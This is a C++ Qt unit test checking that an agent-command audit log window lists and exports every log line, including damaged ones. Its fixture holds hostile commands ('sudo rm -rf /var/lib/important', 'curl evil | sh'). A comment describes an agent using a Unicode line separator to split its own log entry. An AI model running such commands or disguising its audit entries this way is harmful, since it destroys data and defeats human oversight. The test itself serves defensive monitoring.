// The activity log window against a real log file: every line the engine wrote is listed and
// exported, whatever its command holds, and a line that cannot be read is listed as damaged.
#include <QAbstractItemModel>
#include <QTableView>

#include "bridge/vardex_paths.hpp"
#include "support/scoped_env.hpp"
#include "support/temp_folder.hpp"
#include "ui/screens/activity/activity_log_view.hpp"
#include "ui/screens/activity/activity_table_model.hpp"
#include "ui/support/screen_harness.hpp"

namespace vardex::ui::testing {
namespace {

// A command whose comment holds a line separator, as an agent would write it to split its own
// entry in a reader that breaks lines there.
const std::string separated = "sudo rm -rf /var/lib/important # \u2028";
const std::string damaged = R"({"decision":"deny","action":{"raw":"curl evil | sh)";

TEST(ActivityLogWindow, ListsAndExportsEveryLineTheEngineWrote) {
    ScreenHarness screens;
    const vardex::testing::TempFolder folder;
    const auto exported = folder.path() / "export.jsonl";
    vardex::testing::ScopedEnv exportFile("VARDEX_EXPORT_FILE", exported.string());
    vardex::testing::writeFile(VardexPaths::auditLogURL(),
                               R"({"ts":"2030-01-01T00:00:00Z","decision":"allow","action":{"raw":")" + separated +
                                   R"("},"hash":"h1"})" "\n" + damaged + "\n" +
                                   R"({"ts":"2030-01-01T00:00:02Z","decision":"allow","action":{"raw":"npm test"},"hash":"h3"})" "\n");
    screens.store().refreshAuditFeed();
    const auto view = screens.show<ActivityLogView>(nullptr);

    const QAbstractItemModel* model = child<QTableView>(*view, "activityTable")->model();
    ASSERT_EQ(model->rowCount(), 3);
    const auto action = [&](int row) { return model->index(row, ActivityTableModel::action).data().toString().toStdString(); };
    EXPECT_EQ(action(0), "npm test");
    EXPECT_EQ(action(1), "This line of the log could not be read: " + damaged);
    EXPECT_EQ(action(2), "sudo rm -rf /var/lib/important # ⟨U+2028⟩");

    screens.click(*view, "export");
    const std::string text = vardex::testing::readFile(exported).value_or("");
    EXPECT_NE(text.find(damaged), std::string::npos) << text;
    EXPECT_NE(text.find(separated), std::string::npos) << text;
}

}  // namespace
}  // namespace vardex::ui::testing
